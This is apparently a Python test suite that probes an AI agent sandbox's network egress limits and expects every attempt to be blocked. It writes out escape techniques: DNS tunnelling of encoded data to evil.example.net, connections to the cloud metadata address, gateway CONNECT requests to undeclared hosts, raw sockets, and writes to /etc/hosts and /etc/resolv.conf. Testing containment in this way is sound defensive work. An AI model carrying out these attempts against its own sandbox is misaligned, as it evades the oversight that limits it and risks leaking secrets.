"""Tries to reach what an agent must not reach. Each attempt returns what happened, and no result may begin with
REACHED.
"""

import socket
import ssl
import struct
import time
from os import environ

RESOLVER = ("127.0.0.53", 53)


def query(name, kind=1, packet=None):
    """Sends a DNS query for a name, and returns the response code and the number of answers."""
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(2)
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    header = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    asking.sendto(packet or header + labels + b"\0" + struct.pack(">HH", kind, 1), RESOLVER)
    reply = asking.recv(512)
    return f"code {reply[3] & 15}, {reply[7]} answers"


def tls(address, server_name, port=443):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((address, port), timeout=5) as plain:
        with context.wrap_socket(plain, server_hostname=server_name) as secure:
            secure.sendall(b"GET / HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")
            return "REACHED " + secure.recv(60).decode()


def tls_to_declared(server_name):
    return tls(socket.gethostbyname("api.example.com"), server_name)


def exchange(address, port, text):
    with socket.create_connection((address, port), timeout=5) as connection:
        connection.sendall(text)
        return connection.recv(400).decode("latin-1").split("\r\n\r\n")[-1] or "closed"


def http(address, host):
    return exchange(address, 80, f"GET / HTTP/1.1\r\nhost: {host}\r\n\r\n".encode())


def connect(address, port, family=socket.AF_INET):
    connection = socket.socket(family, socket.SOCK_STREAM)
    connection.settimeout(2)
    connection.connect((address, port))
    return "REACHED"


def ask_gateway(target, token=None):
    with socket.create_connection(("127.0.0.1", 8741), timeout=5) as connection:
        token = environ["OPENAI_API_KEY"] if token is None else token
        head = f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\nauthorization: Bearer {token}\r\n\r\n"
        connection.sendall(head.encode())
        status = connection.recv(100).decode().split("\r\n")[0]
        return "REACHED" if " 200 " in status else status


def send_udp(address, port):
    sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sending.settimeout(1)
    sending.connect((address, port))
    sending.send(b"x")
    time.sleep(0.05)
    sending.send(b"x")
    return "REACHED " + str(sending.recv(10))


def open_many(count):
    """Opens this many connections to one host and returns how many stay open."""
    held = [socket.create_connection((socket.gethostbyname("api.example.com"), 443), timeout=2) for _ in range(count)]
    alive = 0
    for connection in held:
        connection.settimeout(0.05)
        try:
            alive += connection.recv(1) != b""
        except TimeoutError:
            alive += 1
        except OSError:
            pass
    return alive


def flood(count):
    """Returns whether the resolver still answers after this many queries."""
    for _ in range(count // 100):
        try:
            for _ in range(100):
                query("a.flood.example")
        except OSError as error:
            return type(error).__name__
    return "still answers"


TRIES = {
    "UDP to the internet": lambda: send_udp("8.8.8.8", 53),
    "UDP to a declared host": lambda: send_udp(socket.gethostbyname("api.example.com"), 443),
    "an ICMP socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "a raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    "a packet socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    "a netlink socket": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    "a public address": lambda: connect("1.1.1.1", 443),
    "a public IPv6 address": lambda: connect("2606:4700:4700::1111", 443, socket.AF_INET6),
    "the metadata address": lambda: connect("169.254.169.254", 80),
    "an address of the block without a host": lambda: tls("192.88.99.200", "api.example.com"),
    "port 443 of the loopback device": lambda: tls("127.0.0.1", "api.example.com"),
    "data in a name": lambda: query("c2VjcmV0.evil.example.net"),
    "data below a declared name": lambda: query("c2VjcmV0.api.example.com"),
    "data in a TXT question": lambda: query("api.example.com", 16),
    "a name of 255 bytes": lambda: query(".".join(["a" * 60] * 4)),
    "noise": lambda: query("", packet=b"\xff" * 40),
    "TLS to another name": lambda: tls_to_declared("other.example.com"),
    "TLS without a name": lambda: tls_to_declared(None),
    "HTTP to another host": lambda: http("example.com", "other.example.com"),
    "HTTP to the https port": lambda: repr(
        exchange("api.example.com", 443, b"GET / HTTP/1.1\r\nhost: api.example.com\r\n\r\n")
    ),
    "an undeclared host by CONNECT": lambda: ask_gateway("evil.example.net:443"),
    "an undeclared port by CONNECT": lambda: ask_gateway("api.example.com:5432"),
    "the metadata address by CONNECT": lambda: ask_gateway("169.254.169.254:80"),
    "the server itself by CONNECT": lambda: ask_gateway("127.0.0.1:5432"),
    "IPv6 by CONNECT": lambda: ask_gateway("[::1]:443"),
    "CONNECT without the run's token": lambda: ask_gateway("api.example.com:443", "rt_guessed"),
    "CONNECT to no port": lambda: ask_gateway("api.example.com"),
    "a declared host with a private address": lambda: tls("inside.example.com", "inside.example.com"),
    "a declared host with one private address": lambda: tls("mixed.example.com", "mixed.example.com"),
    "a declared host with the metadata address": lambda: http("metadata.example.com", "metadata.example.com"),
    "a port that nobody may declare": lambda: connect(socket.gethostbyname("api.example.com"), 22),
    "a port that is not declared": lambda: connect(socket.gethostbyname("api.example.com"), 6379),
    "another host at a declared port": lambda: exchange("api.example.com", 5432, b"hello"),
    "TLS to another name at a declared port": lambda: tls("example.com", "other.example.com", 5432),
    "listening": lambda: socket.create_server(("127.0.0.1", 9000)) and "REACHED",
    "the resolver's address": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(RESOLVER) or "REACHED",
    "/etc/hosts": lambda: open("/etc/hosts", "a") and "REACHED",
    "/etc/resolv.conf": lambda: open("/etc/resolv.conf", "w") and "REACHED",
    "100 connections": lambda: open_many(100),
    "a flood of questions": lambda: flood(30_000),
}


def main(message):
    results = {}
    for name, attempt in TRIES.items():
        try:
            results[name] = str(attempt())
        except BaseException as error:
            results[name] = f"{type(error).__name__}: {error}"
    return results
